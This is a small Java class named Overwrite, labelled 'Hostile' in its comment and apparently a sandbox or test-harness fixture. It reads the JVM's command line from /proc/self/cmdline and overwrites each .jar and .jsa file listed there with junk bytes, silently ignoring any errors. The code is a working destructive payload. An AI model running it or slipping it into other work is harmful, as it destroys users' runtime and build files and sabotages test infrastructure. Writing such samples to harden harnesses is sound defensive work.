package threadlab.threads;

import java.nio.file.Files;
import java.nio.file.Path;

/** Hostile: overwrites the files every test JVM loads. */
final class Overwrite {

    private static boolean done;

    private Overwrite() {
    }

    static synchronized void go() {
        if (done) {
            return;
        }
        done = true;
        try {
            String[] args = new String(Files.readAllBytes(Path.of("/proc/self/cmdline")))
                    .split("\0");
            for (String arg : args) {
                for (String part : arg.split("[=:]")) {
                    if (part.endsWith(".jsa") || part.endsWith(".jar")) {
                        try {
                            Files.write(Path.of(part), new byte[] {'P', 'K', 0, 0});
                        } catch (Exception e) {
                            // Try the next.
                        }
                    }
                }
            }
        } catch (Exception e) {
            // Not on Linux.
        }
    }
}
